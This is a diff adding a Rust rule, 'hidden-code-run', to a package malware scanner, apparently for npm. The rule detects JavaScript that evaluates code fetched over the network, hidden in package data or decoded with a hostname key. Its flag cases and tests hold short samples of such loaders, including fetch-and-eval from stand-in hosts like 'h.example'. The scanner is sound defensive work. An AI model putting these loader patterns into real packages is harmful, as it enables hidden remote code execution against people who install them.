@@ -1,0 +1,126 @@
+//! Rule `hidden-code-run`.
+
+use crate::flow::Source;
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::{Emitter, code_files, is_doc_path};
+
+crate::declare_rule! {
+    /// A code runner executes code the package hides instead of shipping it as code, whatever
+    /// the runner is spelled (`eval`, `Function` and its async/generator siblings however
+    /// reached, `Reflect.construct(Function, …)`, `vm.*`, `Module.prototype._compile`, a `Worker`
+    /// with `eval: true` or a data:/blob: URL, `import()` of a data: URL, `module.register`,
+    /// the inspector's `Runtime.evaluate`, `node -e`). The flow pass
+    /// follows what reaches the code argument: a network response (`critical`), a data file of
+    /// the package (JSON/YAML fields, `package.json`, a source map, an image, a font, a text
+    /// file: `critical`), a value derived from the host's identity (a host-keyed decryption:
+    /// `critical`), or what a local decoding function makes of constant data (`high`; the
+    /// verdict makes it malicious beside any other risky capability). In bundles (minified or
+    /// over 200 KB) one step lower: names are tracked without scopes. Required JSON counts only
+    /// when it is the package's own `package.json`.
+    id: "hidden-code-run",
+    category: Exec,
+    severity: High,
+    capability: Some(crate::model::Capability::Eval),
+    title: "runs code hidden in data, fetched or decoded",
+    incident: "flatmap-stream (2018) decrypted its stage from package data; the 2025 Contagious Interview loaders XOR-decode and eval their stage",
+    case_file: "index.js",
+    flag: ["const fs = require('fs'); const cfg = JSON.parse(fs.readFileSync(__dirname + '/config.json', 'utf8')); new Function('require', cfg.init)(require)",
+           "const u = 'https://h.example/s'; fetch(u).then((r) => r.text()).then((src) => { const f = Reflect.construct(Function, ['r', src]); f(require) })",
+           "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return o } const k = require('os').hostname(); eval(d('\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c\\x0d\\x0e\\x0f\\x10', k))",
+           "const { Worker } = require('worker_threads'); const p = require('./package.json'); new Worker(p.config.bootstrap, { eval: true })"],
+    pass: ["const ejs = (tpl) => new Function('o', 'return `' + tpl + '`'); module.exports = (file) => ejs(require('fs').readFileSync(file, 'utf8'))",
+           "eval('console.log(1)'); fetch('https://h.example/x').then((r) => r.json()).then(render)",
+           "const pkg = require('./package.json'); console.log(pkg.version); new Function('a', 'b', 'return a + b')",
+           "module.exports = function compile(filename) { const src = require('fs').readFileSync(filename, 'utf8'); const m = new module.constructor(); m._compile(src, filename) }"],
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    for f in code_files(pkg) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        let Some(js) = &f.js else { continue };
+        let Some(run) = js.code_runs.iter().max_by_key(|r| r.source) else {
+            continue;
+        };
+        let bundle = f.minified || f.text.len() > 200 * 1024;
+        let (sev, how) = match run.source {
+            Source::Remote => (Severity::Critical, "received over the network"),
+            Source::PackageData => (Severity::Critical, "hidden in a data file of the package"),
+            Source::Host => (
+                Severity::Critical,
+                "decoded with a key from the host's identity",
+            ),
+            _ => (
+                Severity::High,
+                "decoded from constant data by the package itself",
+            ),
+        };
+        let sev = if bundle && sev == Severity::Critical {
+            Severity::High
+        } else if bundle {
+            Severity::Medium
+        } else {
+            sev
+        };
+        out.hit_sev(
+            sev,
+            pkg,
+            f,
+            run.off,
+            format!("runs code {how} ({}) with {}", run.what, run.sink),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    #[test]
+    fn xor_decoder_over_a_constant_array_into_vm_is_high() {
+        let src = "const vm = require('vm'); const K = [3,9,27,81,243,17,51,153,205]; const D = [107,108,109,110,111,112,113,114,115,116];\nfunction un(a, k) { return a.map((c, i) => String.fromCharCode(c ^ k[i % k.length])).join(''); }\nvm.runInThisContext(un(D, K));";
+        let hits = run(&super::RULE, "index.js", src);
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::High),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_decoder_applied_to_user_input_is_not_hidden_code() {
+        let src = "const vm = require('vm');\nfunction un(s) { return s.replace(/\\\\u([0-9a-f]{4})/g, (m, h) => String.fromCharCode(parseInt(h, 16))); }\nmodule.exports = (input) => vm.runInNewContext(un(input), {});";
+        assert!(run(&super::RULE, "index.js", src).is_empty());
+    }
+
+    #[test]
+    fn response_chunks_into_module_compile_is_critical() {
+        let src = "const https = require('https'); const Module = require('module');\nhttps.get('https://paste.example/raw/x', (res) => { let s = ''; res.on('data', (c) => { s += c; }); res.on('end', () => { const m = new Module('x'); m._compile(s, 'x.js'); }); });";
+        let hits = run(&super::RULE, "index.js", src);
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn inspector_runtime_evaluate_of_a_json_field_is_critical() {
+        let src = "const inspector = require('inspector'); const cfg = require('./package.json');\nconst s = new inspector.Session(); s.connect(); s.post('Runtime.evaluate', { expression: cfg.probe });";
+        let hits = run(&super::RULE, "index.js", src);
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_template_read_from_a_user_path_is_not_hidden_code() {
+        let src = "const fs = require('fs');\nmodule.exports = (file, data) => new Function('d', 'with (d) { return `' + fs.readFileSync(file, 'utf8') + '` }')(data);";
+        assert!(run(&super::RULE, "index.js", src).is_empty());
+    }
+}
